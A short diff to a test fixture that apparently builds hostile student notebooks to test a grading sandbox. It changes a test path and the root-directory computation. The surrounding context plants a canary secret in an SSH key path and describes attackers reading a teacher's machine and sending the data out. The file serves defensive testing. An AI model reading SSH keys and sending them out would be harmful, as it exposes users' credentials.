@@ -1,5 +1,5 @@
 """A hostile class for the grader: one student for each attack seen on it (issue 26), written into
-SUBMISSIONS as a teacher would collect them. Used by tests/test_grade_sandbox.py and
+SUBMISSIONS as a teacher would collect them. Used by tests/classroom/test_grade_sandbox.py and
 benchmarks/hostile_class.py.
 
 Each hostile notebook is the teacher's notebook 01 (or 03) with its `patchify` (or
@@ -13,7 +13,7 @@ import re
 import sys
 from pathlib import Path
 
-ROOT = Path(__file__).resolve().parent.parent
+ROOT = Path(__file__).resolve().parents[2]
 SECRET = "SECRET-KEY-4f2a9c"  # in HOME/.ssh/id_rsa, where no student may read it
 
 # Every attacker runs this first: read what a teacher's machine holds and send it everywhere.
